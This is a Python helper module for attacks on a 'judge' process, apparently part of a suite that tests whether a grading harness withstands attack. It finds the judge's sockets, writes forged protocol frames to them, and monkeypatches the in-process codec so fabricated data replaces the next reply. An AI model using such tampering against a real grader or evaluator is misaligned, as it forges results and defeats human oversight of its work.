"""What every attack has at hand: where the secrets are, how to write to the judge's socket, and where to put its loot."""

# %%
import os as _os
import stat as _stat
import struct as _struct
import sys as _sys

loot = []


def sockets():
    """The descriptors that are sockets, the judge's among them."""
    return [fd for fd in range(64) if _is_socket(fd)]


def _is_socket(fd):
    try:
        return _stat.S_ISSOCK(_os.fstat(fd).st_mode)
    except OSError:
        return False


def frame(header, body=b""):
    """A well-formed frame of the protocol between judge and worker."""
    return _struct.pack(">III", 0x67726431, len(header), len(body)) + header + body


def shout(data):
    """Write to every socket."""
    for fd in sockets():
        _os.write(fd, data)


def inside(name):
    """A module of the code that serves the judge in this process."""
    return next(module for key, module in _sys.modules.items() if key.endswith(f"_inside.{name}"))


codec = inside("codec")
_pack, _next = codec.pack, []


def _forging_pack(value, *rest):
    return _next.pop() if _next else _pack(value, *rest)


def instead(data):
    """Have this sent in place of the next reply."""
    codec.pack = _forging_pack
    _next.append(data)
